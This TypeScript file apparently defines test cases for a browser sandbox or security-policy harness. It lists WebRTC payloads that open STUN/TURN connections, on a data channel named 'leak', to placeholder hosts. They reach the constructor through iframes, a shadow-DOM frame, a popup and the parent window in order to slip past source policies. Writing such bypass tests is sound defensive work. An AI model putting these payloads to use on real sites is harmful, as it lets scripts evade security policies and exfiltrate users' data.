import type { Attack } from '../attack';

/** Asks a STUN or TURN server, which a policy of sources does not shut. */
const asks = (peer: string, url = "'stun:' + UDP") => `const peer = new (${peer})({
  iceServers: [{ urls: ${url}, username: 'x', credential: 'x' }],
});
peer.createDataChannel('leak');
await peer.setLocalDescription(await peer.createOffer());
await sleep(400);`;

const of = (name: string, peer: string, url?: string): Attack => ({
  name: `webrtc-${name}`,
  run: asks(peer, url),
  staysMs: 300,
});

export const webrtc: Attack[] = [
  of('stun', 'real.RTCPeerConnection'),
  of('prefixed', 'real.webkitRTCPeerConnection'),
  of('turn-over-tcp', 'real.RTCPeerConnection', "'turn:' + TCP + '?transport=tcp'"),
  of('through-a-blank-frame', "add('iframe').contentWindow.RTCPeerConnection"),
  of(
    'through-an-about-frame',
    "add('iframe', { src: 'about:blank' }).contentWindow.RTCPeerConnection",
  ),
  of('through-a-frame-by-index', "(add('iframe'), window[window.length - 1]).RTCPeerConnection"),
  of(
    'through-a-srcdoc-frame',
    "await new Promise((done) => { const frame = add('iframe', { srcdoc: '<p>' }); frame.onload = () => done(frame.contentWindow.RTCPeerConnection); })",
  ),
  of(
    'through-a-written-frame',
    "(() => { const { contentDocument, contentWindow } = add('iframe'); contentDocument.open(); contentDocument.write('<p>'); contentDocument.close(); return contentWindow.RTCPeerConnection; })()",
  ),
  of(
    'through-a-frame-in-a-shadow',
    "add('iframe', {}, put('<p></p>').attachShadow({ mode: 'closed' })).contentWindow.RTCPeerConnection",
  ),
  of('through-a-popup', "window.open('about:blank').RTCPeerConnection"),
  of('through-the-parent', 'parent.RTCPeerConnection'),
].map((attack) => (attack.name.endsWith('popup') ? { ...attack, alone: true } : attack));
